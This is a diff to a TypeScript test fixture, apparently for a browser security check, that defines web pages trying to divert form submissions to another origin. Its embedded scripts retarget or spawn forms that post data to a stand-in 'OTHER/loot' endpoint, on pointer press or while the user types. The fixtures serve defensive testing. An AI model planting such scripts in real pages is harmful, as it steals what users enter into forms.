@@ -188,8 +188,9 @@ const UNSENT: Record<string, [what: string, page: string]> = {
     `${form('method=post action="/own"', '<button id=b>Send</button>', OWN)}<iframe id=x src="/empty" width=300 height=60></iframe><script>addEventListener('pointerdown', () => { const own = x.contentDocument.adoptNode(document.forms[0]); Object.assign(own, { action: 'OTHER/loot', target: '_top' }); x.contentDocument.body.append(own); own.requestSubmit() }, true)</script>`,
   ],
   thanked: [
+    // Its own form cannot be sent: the tab may be opened before the press or after it.
     'thanks in a tab that the page opens while it is filled in',
-    `${form('method=post action="/own"', '<button id=b>Send</button>', OWN)}<script>let done; addEventListener('input', () => { if (done) return; done = document.createElement('form'); Object.assign(done, { method: 'post', target: '_blank', rel: 'noopener', action: 'OTHER/loot' }); document.body.append(done); done.submit() }, true)</script>`,
+    `${form('method=post action="/own" onsubmit="return false"', '<button id=b>Send</button>', OWN)}<script>let done; addEventListener('input', () => { if (done) return; done = document.createElement('form'); Object.assign(done, { method: 'post', target: '_blank', rel: 'noopener', action: 'OTHER/loot' }); document.body.append(done); done.submit() }, true)</script>`,
   ],
 }
 
